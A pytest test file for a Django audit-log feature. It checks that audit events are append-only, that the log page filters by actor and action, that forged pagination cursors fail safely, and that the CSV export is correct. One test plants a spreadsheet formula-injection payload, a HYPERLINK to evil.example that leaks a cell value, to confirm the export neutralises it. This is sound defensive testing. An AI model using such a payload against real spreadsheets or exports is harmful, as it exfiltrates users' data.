import csv
import io

import pytest
from django.urls import reverse

from vigie.accounts.people import name_of
from vigie.audit.models import AppendOnlyError, AuditEvent
from vigie.inbox import actions

pytestmark = pytest.mark.django_db


@pytest.fixture
def history(ingest, personas):
    item = ingest(1).item
    cm = personas["community_manager"]
    actions.assign(item, cm, by=cm)
    actions.change_status(item, "in_progress", by=cm)
    actions.add_note(item, "Appeler la stagiaire", by=personas["direction"])
    return item


def test_the_audit_log_cannot_be_changed_or_deleted(history):
    event = AuditEvent.objects.first()
    event.summary = "réécrit"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.all().delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.update(summary="x")


def test_the_log_page_lists_who_did_what(client, personas, history):
    client.force_login(personas["direction"])
    page = client.get(reverse("audit:list")).content.decode()
    assert "a changé l&#x27;attribution du commentaire" in page and "a ajouté une note interne" in page
    assert "community-manager" in page and "item.assigned" not in page


@pytest.mark.parametrize("after", ["W05hTiwgMV0", "WzFlOTk5LCAxXQ", "W1tbW1tbW1tbWzFdXV1dXV1dXV0sIDFd", "1.2.3", "²"])
def test_a_forged_page_link_shows_the_first_page(client, personas, history, after):
    client.force_login(personas["direction"])
    response = client.get(reverse("audit:list"), {"after": after})
    assert response.status_code == 200 and "a ajouté une note interne" in response.content.decode()


def test_the_log_filters_by_actor_and_verb(client, personas, history):
    client.force_login(personas["admin"])
    form = client.get(reverse("audit:list")).content.decode()
    assert '<option value="" selected>Tout le monde</option>' in form and "---------" not in form
    assert f">{name_of(personas['direction'])}</option>" in form  # people by name, not by login
    page = client.get(reverse("audit:list"), {"actor": personas["direction"].pk}).content.decode()
    assert "a ajouté une note interne" in page and "a changé l&#x27;attribution" not in page
    page = client.get(reverse("audit:list"), {"verb": "statut"}).content.decode()
    assert "a changé le statut" in page and "a ajouté une note interne" not in page


def test_the_csv_export_has_every_filtered_event(client, personas, history):
    client.force_login(personas["admin"])
    response = client.get(reverse("audit:export"), {"verb": "item."})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:3] == ["date", "qui", "action"]
    assert [row[2] for row in rows[1:]] == ["item.assigned", "item.status_changed", "item.note_added"]
    assert response["Content-Disposition"].endswith('.csv"')


def test_it_neutralises_formulas_in_the_csv_export(client, personas, history):
    actions.add_note(history, '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', by=personas["direction"])
    client.force_login(personas["admin"])
    response = client.get(reverse("audit:export"), {"verb": "note_added"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    summaries = [row[5] for row in rows[1:]]
    assert any(summary.startswith("'=HYPERLINK") for summary in summaries)
    assert not any(cell[:1] in "=+-@\t\r" and cell for row in rows[1:] for cell in row)
